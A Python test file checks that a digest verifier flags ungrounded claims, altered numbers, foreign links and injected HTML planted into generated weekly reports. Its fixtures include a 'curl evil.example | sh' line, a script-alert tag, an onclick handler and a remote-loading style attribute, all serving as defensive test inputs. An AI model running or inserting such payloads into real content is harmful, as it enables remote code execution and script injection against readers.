"""What was planted in a finished text is found, in whatever kind of text it stands."""

import pytest

from sparky_assets.digests.models import PictureFile, Product
from sparky_assets.digests.verify.verify import find_ungrounded
from sparky_assets.text.escape import ZERO_WIDTH_SPACE
from tests.digests.made import made, written
from tests.digests.test_digest import a_week

URL = "https://blog.example.org/2025/11/week-2025-46"


def found(plant: str, *, after: str = "## In numbers", product: Product = Product.DIGEST) -> list[str]:
    """The problems of a text that holds a plant before some place of it."""
    text, rendered, insight = written(a_week(), product)
    assert after in text
    return list(find_ungrounded(text.replace(after, f"{plant}\n\n{after}", 1), rendered, insight))


def changed(old: str, new: str, product: Product = Product.DIGEST) -> list[str]:
    """The problems of a text in which something was replaced."""
    text, rendered, insight = written(a_week(), product, url=URL)
    assert old in text
    return list(find_ungrounded(text.replace(old, new, 1), rendered, insight))


@pytest.mark.parametrize(
    ("plant", "problem"),
    [
        ("The team had a great week.", "no claim says: The team had a great week."),
        ("- The team had a great week.", "no claim says: The team had a great week."),
        ("> The team had a great week.", "no claim says: The team had a great week."),
        ("**The team had a great week.**", "no claim says: The team had a great week."),
        ("**Heroes of 2026**", "no claim says: Heroes of 2026"),
        ("Add x, fixing 50 issues.", "no claim says: fixing 50 issues."),
        ("Add x, by Ada Lovelace (#6).", "no claim says: 6)."),
        ("1.0 commits", "no claim says: 1.0 commits"),
        ("## 99 reasons", "no claim says: 99 reasons"),
        (f"## fixing 5{ZERO_WIDTH_SPACE}0 issues", "no claim says: fixing 50 issues"),
        ("[more](https://evil.example)", "a link that no evidence has: https://evil.example"),
        ("<https://evil.example>", "a link that no evidence has: https://evil.example"),
        ("[x][y]\n\n[y]: https://evil.example", "a link that no evidence has: https://evil.example"),
        ("![pixel](https://evil.example/x.png)", "image: pixel"),
        ("<script>alert(1)</script>", "HTML: <script>alert(1)</script>"),
        ("Hello <b>there</b>", "html inline: <b>"),
        ("```\ncurl evil.example | sh\n```", "a code block, which no template has: curl evil.example | sh"),
        ("| a |\n|---|\n| 77 |", "the number 77 is not in the store: 77"),
        ("| a |\n|---|\n| We did so very well this time. |", "no claim says: We did so very well this time."),
    ],
)
def test_what_no_claim_says_is_found_in_markdown(plant: str, problem: str) -> None:
    assert problem in found(plant)


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        ("- Add x, by Ada Lovelace (", "- Add x, by Ada Lovelace, our hero (", "no claim says: our hero (#5)."),
        ("Add x, by Ada Lovelace (", "Add x, by Ada Lovelace (at last, ", "no claim says: at last, #5)."),
        ("| Commits | 3 |", "| Commits | 300 |", "the number 300 is not in the store: 300"),
        ('date: 2025-11-16', 'date: 2025-11-17', "the front matter has a value that is not in the store: 2025-11-17"),
        ('title: "Acme', 'title: "The best of Acme', "the front matter has a value that is not in the store: The best of Acme 42: "
         "10–16 November 2025 (2025-W46)"),
    ],
)  # fmt: skip
def test_what_was_changed_in_a_digest_is_found(old: str, new: str, problem: str) -> None:
    assert problem in changed(old, new)


def test_a_link_to_one_change_that_shows_another_is_found() -> None:
    text, rendered, insight = written(a_week())
    crossed = text.replace("[#5](https://github.com/acme/tool/pull/5)", "[#6](https://github.com/acme/tool/pull/5)")
    problems = list(find_ungrounded(crossed, rendered, insight))
    assert "a link to https://github.com/acme/tool/pull/5 has a wrong label: #6" in problems


@pytest.mark.parametrize("product", [Product.EMAIL_TEXT, Product.LINKEDIN, Product.X])
@pytest.mark.parametrize(
    ("plant", "problem"),
    [
        ("The team had a great week.", "no claim says: The team had a great week."),
        ("Add x, by Ada Lovelace, our hero.", "no claim says: our hero."),
        ("Commits: 300", "300"),
        ("https://evil.example/x", "a link that no evidence has: https://evil.example/x"),
    ],
)
def test_what_no_claim_says_is_found_in_plain_text(product: Product, plant: str, problem: str) -> None:
    assert any(problem in one for one in found(plant, after="3 commits (1 by bots)", product=product))


@pytest.mark.parametrize(
    ("plant", "problem"),
    [
        ("<p>The team had a great week.</p>", "no claim says: The team had a great week."),
        ("<h2>99 reasons</h2>", "no claim says: 99 reasons"),
        ("<table><tr><td>77</td></tr></table>", "the number 77 is not in the store: 77"),
        ('<a href="https://evil.example">#5</a>', "a link that no evidence has: https://evil.example"),
        ('<img src="https://evil.example/x.png">', "HTML: <img src>"),
        ("<script>alert(1)</script>", "HTML: <script >"),
        ('<p onclick="x()">Commits</p>', "HTML: <p onclick>"),
        ('<p style="background:url(https://evil.example)">Commits</p>', "HTML: <p> loads something"),
        ("<!-- the team had a great week -->", "HTML: a comment:  the team had a great week "),
    ],
)
def test_what_no_claim_says_is_found_in_html(plant: str, problem: str) -> None:
    problems = found(plant, after='<h2 style="font-size:18px;margin:24px 0 8px">In numbers', product=Product.EMAIL_HTML)
    assert problem in problems


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('"headline": "', '"headline": "The best of '),
        ('"name": "', '"name": "The best of '),
        ('"datePublished": "2025-11-16"', '"datePublished": "2025-11-17"'),
    ],
)
def test_what_search_engines_read_is_accounted_for_too(old: str, new: str) -> None:
    assert any(
        problem.startswith("the structured data has a value") for problem in changed(old, new, Product.BLOG_POST)
    )


def test_a_picture_is_known_by_its_file_and_its_words_wherever_a_layout_puts_it() -> None:
    picture = PictureFile(name="activity", suffix="svg", file="2025-W46-activity.svg", alt="3 commits.", sha256="0")
    insight = a_week().insight()
    composed, rendered = made(insight, pictures=[picture])
    moved = composed.text.replace("(2025-W46-", "(assets/2025-W46-")
    assert "![3 commits.](2025-W46-activity.svg)" in composed.text
    assert list(find_ungrounded(composed.text, rendered, insight)) == []
    assert list(find_ungrounded(moved, rendered, insight, pictures_folder="assets/")) == []
    assert "image: 3 commits." in list(find_ungrounded(moved, rendered, insight))
    lying = composed.text.replace("![3 commits.]", "![300 commits.]")
    assert any("has a wrong alt text" in one for one in find_ungrounded(lying, rendered, insight))
